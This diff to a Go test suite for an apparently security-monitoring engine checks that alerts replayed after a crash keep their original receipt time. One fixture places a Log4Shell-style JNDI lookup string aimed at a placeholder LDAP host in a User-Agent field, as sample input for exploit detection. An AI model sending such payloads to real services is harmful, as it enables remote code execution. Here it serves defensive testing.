@@ -10,6 +10,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/klauspost/compress/s2"
@@ -18,6 +19,7 @@ import (
 	"go.opentelemetry.io/collector/pdata/ptrace"
 
 	"github.com/evidentsec/evident/internal/detect"
+	"github.com/evidentsec/evident/internal/findings"
 	"github.com/evidentsec/evident/internal/store"
 	"github.com/evidentsec/evident/internal/store/sqlite"
 	"github.com/evidentsec/evident/internal/telemetry"
@@ -50,6 +52,7 @@ func requestOf(t testing.TB, spans []telemetry.Span) []byte {
 // uncompressed is the payload of a logged batch, uncompressed.
 func uncompressed(t testing.TB, b memBatch) []byte {
 	t.Helper()
+	b = b.inner(t)
 	if b.kind != store.BatchTraceRequestS2 {
 		return b.payload
 	}
@@ -123,7 +126,7 @@ func TestLogReceived(t *testing.T) {
 			consumeReceived(t, e, req)
 			eventually(t, "the exploit alert", func() bool { return len(rec.of(detect.KindExploitPayload)) > 0 })
 			st.mu.Lock()
-			logged := st.batches[0]
+			logged := st.batches[0].inner(t)
 			st.mu.Unlock()
 			if logged.kind != store.BatchTraceRequestS2 {
 				t.Errorf("logged as %q, want %q", logged.kind, store.BatchTraceRequestS2)
@@ -354,5 +357,120 @@ func TestEncodeRefusesWhatReplayWouldSkip(t *testing.T) {
 	if !errors.Is(err, telemetry.ErrTooLarge) || payload != nil ||
 		!strings.Contains(err.Error(), "a request of 268435457 bytes, over the 268435456 a logged request may take") {
 		t.Fatalf("encode: %d bytes, %v; want none and ErrTooLarge naming both sizes", len(payload), err)
+	}
+}
+
+// TestReplayKeepsReceiptTime: a batch replayed from the log after a crash
+// is the telemetry received before it, so the alerts it raises again say
+// when that was (received_at, and the latency from it), not when the
+// restart replayed it, whichever way the batch was logged.
+func TestReplayKeepsReceiptTime(t *testing.T) {
+	exploit := shopSpans()
+	exploit[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+	for _, tc := range []struct {
+		name    string
+		consume func(*Engine)
+		kind    detect.Kind
+	}{
+		{"trace request", func(e *Engine) { consumeReceived(t, e, requestOf(t, exploit)) }, detect.KindExploitPayload},
+		{"spans without their request", func(e *Engine) {
+			if err := e.TracesConsumer().Consume(context.Background(), exploit); err != nil {
+				t.Fatal(err)
+			}
+		}, detect.KindExploitPayload},
+		{"profile request", func(e *Engine) {
+			consumeReceivedProfiles(t, e, ingested(pprofOf(t, textProfile("", true), nil), "shop"))
+		}, detect.KindFirstExecution},
+		{"profiles without their request", func(e *Engine) {
+			if err := e.ProfilesConsumer().Consume(context.Background(), []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
+				t.Fatal(err)
+			}
+		}, detect.KindFirstExecution},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			received := t0.Add(time.Minute)
+			st := &memStore{findings: []findings.Finding{textFinding("shop")}}
+			live := newEngine(t, testConfig(), st, &recorder{}, nil)
+			live.now = func() time.Time { return received }
+			start(t, live)
+			tc.consume(live)
+			// What a crash leaves: the log, no checkpoint.
+			st.mu.Lock()
+			crashed := &memStore{batches: slices.Clone(st.batches), seq: st.seq, findings: st.findings}
+			st.mu.Unlock()
+
+			rec := &recorder{}
+			replayed := newEngine(t, testConfig(), crashed, rec, nil)
+			restarted := received.Add(time.Hour)
+			replayed.now = func() time.Time { return restarted }
+			start(t, replayed)
+			as := rec.of(tc.kind)
+			if len(as) == 0 {
+				t.Fatalf("no %s alert on replay", tc.kind)
+			}
+			for _, a := range as {
+				if !a.ReceivedAt.Equal(received) || !a.Time.Equal(restarted) {
+					t.Errorf("replayed %s alert received at %v, fired at %v; want received at %v, fired at %v", a.Kind, a.ReceivedAt, a.Time, received, restarted)
+				}
+			}
+		})
+	}
+}
+
+// TestReplayLogBeforeReceiptTime: testdata/store-e12cac8 is a store the
+// last version whose log did not keep the receipt time wrote and was
+// killed over (its README): trace and profile requests in a segment, no
+// checkpoint. This version replays it, dating what it raises again by the
+// replay, as that version did, and logs what comes after with its time.
+func TestReplayLogBeforeReceiptTime(t *testing.T) {
+	dir := t.TempDir()
+	for _, name := range []string{"evident.db", "log-00000000000000000001.seg"} {
+		b, err := os.ReadFile(filepath.Join("testdata", "store-e12cac8", name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	st, err := sqlite.Open(t.Context(), dir, sqlite.DefaultConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	kinds := func() []store.BatchKind {
+		var kinds []store.BatchKind
+		if err := st.Batches(t.Context(), 0, func(_ int64, kind store.BatchKind, _ []byte) error {
+			kinds = append(kinds, kind)
+			return nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+		return kinds
+	}
+	old := []store.BatchKind{store.BatchTraceRequestS2, store.BatchTraceRequestS2, store.BatchTraceRequestS2, store.BatchProfileRequestS2}
+	if diff := cmp.Diff(old, kinds()); diff != "" {
+		t.Fatalf("logged kinds (-want +got):\n%s", diff)
+	}
+	rec := &recorder{}
+	e := newEngine(t, testConfig(), noCheckpoint{st}, rec, nil)
+	restarted := time.Date(2026, 12, 8, 9, 0, 0, 0, time.UTC)
+	e.now = func() time.Time { return restarted }
+	start(t, e)
+	snap := e.model.Snapshot()
+	for _, svc := range []string{"orders", "reporter"} {
+		if snap.Service(svc) == nil {
+			t.Errorf("service %s not replayed", svc)
+		}
+	}
+	as := rec.of(detect.KindFirstExecution)
+	if len(as) != 1 || as[0].Service != "reporter" || !as[0].ReceivedAt.Equal(restarted) {
+		t.Errorf("first executions replayed: %+v; want reporter's, received at the replay (%v)", as, restarted)
+	}
+	if err := e.TracesConsumer().Consume(t.Context(), shopSpans()); err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(append(old, store.BatchReceivedAt), kinds()); diff != "" {
+		t.Errorf("logged kinds after a new batch (-want +got):\n%s", diff)
 	}
 }
